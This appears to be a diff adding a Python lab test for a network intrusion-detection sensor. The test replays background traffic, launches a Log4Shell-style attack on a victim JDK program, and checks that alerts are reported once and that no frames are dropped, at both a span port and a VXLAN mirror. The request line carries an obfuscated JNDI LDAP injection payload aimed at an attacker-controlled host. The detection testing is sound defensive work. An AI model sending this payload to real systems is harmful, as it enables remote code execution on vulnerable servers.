@@ -1,0 +1,56 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""span.py SENSOR CLASSES TRAFFIC: a whole attack on a real JDK, seen at a span port and through a VXLAN mirror by two
+workers while other traffic passes, is told once and to its end, and every frame is in the sum.
+
+The traffic, replayed from a generated capture, is less than the rings hold: on the slowest machine nothing may be lost.
+"""
+import subprocess
+import sys
+
+import lab
+
+LOAD_MB = 20
+SETTINGS = "workers: 2\naf-packet: [{interface: e0, buffer-size: 64mb}]"
+
+
+def attack(sensor, device, capture):
+    before = len(sensor.settled())
+    load = lab.Load(capture, device)
+    lab.request("Mozilla/5.0 ${${lower:j}ndi:ldap://%s:1389/cn=remote,dc=lab}" % lab.ATTACKER)
+    said = load.stop()
+    found = sensor.settled()[before:]
+    lab.once(found, *lab.chain())
+    addresses = {(facts["source"]["ip"], facts["target"]["ip"]) for facts in (alert["alert"] for alert in found)}
+    assert addresses == {(lab.ATTACKER, lab.VICTIM)}, "others than attacker and victim: %s" % addresses
+    print("through %s: %d alerts amid %s" % (device, len(found), said))
+
+
+def main():
+    program, classes, traffic = sys.argv[1:4]
+    lab.enter("curl", "slapd", "slapadd", "openssl")
+    lab.need_java()
+    classes = lab.java_classes(classes)
+    capture = lab.WORK / "load.pcap"
+    subprocess.run([traffic, str(LOAD_MB), "1", capture], check=True, stdout=subprocess.DEVNULL)
+    lab.build_network()
+    victim = lab.Program("vic", classes, "Victim", "8080")
+    lab.start_directory()
+    lab.start_web(classes)
+    victim.wait_ready()
+    lab.until("the servers", lambda: lab.listening("atk", 1389, 8000))
+
+    sensor = lab.Sensor(program, SETTINGS)
+    attack(sensor, "sen", capture)
+    count = sensor.stop()
+    assert not count.get("capture.kernel_drops"), "frames were dropped that the rings had room for"
+
+    lab.mirror_through_vxlan()
+    sensor = lab.Sensor(program, SETTINGS)
+    attack(sensor, "vx0", capture)
+    count = sensor.stop()
+    assert count.get("decode.vxlan"), "nothing came through the mirror: the test has tested nothing"
+
+
+if __name__ == "__main__":
+    main()
